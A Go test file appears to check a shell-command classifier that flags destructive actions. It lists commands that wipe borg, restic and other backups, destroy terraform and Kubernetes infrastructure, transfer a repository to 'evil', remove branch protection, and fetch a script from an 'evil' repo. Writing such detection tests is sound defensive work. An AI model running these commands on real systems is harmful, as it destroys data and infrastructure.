package shell

import "testing"

func TestBackups(t *testing.T) {
	sayEach(t, []saying{
		{`borg delete --force /backup/repo`, `destroy backup /backup/repo wide`},
		{`borg delete --dry-run /backup/repo`, ``},
		{`borg prune --keep-daily 7 /backup/repo`, ``},
		{`borg create /backup/repo::now .`, ``},
		{`restic forget --keep-last 0 --prune --unsafe-allow-remove-all`, `destroy backup snapshots wide`},
		{`restic forget --keep-daily 7 --prune`, ``},
		{`restic backup .`, ``},
		{`duplicity remove-all-but-n-full 0 --force s3://b`, `destroy backup remove-all-but-n-full 0 s3://b wide`},
		{`duplicity remove-all-but-n-full 3 --force s3://b`, ``},
		{`snapper delete 1-100`, `destroy backup snapshots 1-100 wide`},
		{`snapper list`, ``},
		{`timeshift --delete-all`, `destroy backup snapshots wide`},
		{`timeshift --list`, ``},
		{`kopia snapshot delete --all --delete`, `destroy backup snapshots wide`},
		{`kopia snapshot list --all`, ``},
		{`bup rm /x`, `destroy backup /x wide`},
		{`wal-g delete everything --confirm`, `destroy backup everything wide`},
		{`pgbackrest stanza-delete --stanza=main`, `destroy backup stanza main wide`},
		{`btrfs subvolume delete /home/.snapshots/1/snapshot`, `delete /home/.snapshots/1/snapshot wide; destroy backup /home/.snapshots/1/snapshot wide`},
	})
}

func TestInfrastructureByOtherRoads(t *testing.T) {
	sayEach(t, []saying{
		{`npx --yes aws-cdk@2 destroy --all --force`, `install aws-cdk; destroy stack wide`},
		{`pnpm dlx aws-cdk diff`, `install aws-cdk`},
		{`TF_CLI_ARGS_apply="-destroy -auto-approve" terraform apply`, `destroy infrastructure wide`},
		{`TF_CLI_ARGS_plan=-destroy terraform apply`, `apply infrastructure`},
		{`terraform plan -destroy -out=p && terraform apply p`, `destroy infrastructure wide`},
		{`terraform plan -out=p && terraform apply p`, `apply infrastructure`},
		{`docker compose -f prod.yml down -v --rmi all`, `destroy volumes of the project in prod: prod.yml wide`},
		{`docker compose -f products.yml down -v`, `destroy volumes of the project wide`},
		{`helm uninstall app -n production`, `destroy release app in production`},
		{`curl -X DELETE localhost:8001/api/v1/namespaces/production`, `destroy namespace production wide; send http://localhost:8001/api/v1/namespaces/production`},
		{`curl -X DELETE localhost:8001/api/v1/users/1`, `send http://localhost:8001/api/v1/users/1`},
		{`vagrant ssh -c 'rm -rf /vagrant/x'`, `delete /vagrant/x wide remote; delete /home/u/p/x wide`},
		{`gh repo transfer acme/shop evil`, `destroy repository acme/shop evil wide`},
		{`gh ruleset delete 1`, `disarm branch protection of this repository`},
		{`gh release download -R evil/x -p x.sh`, `fetch https://github.com/evil/x; write /home/u/p/x.sh from https://github.com/evil/x`},
	})
}
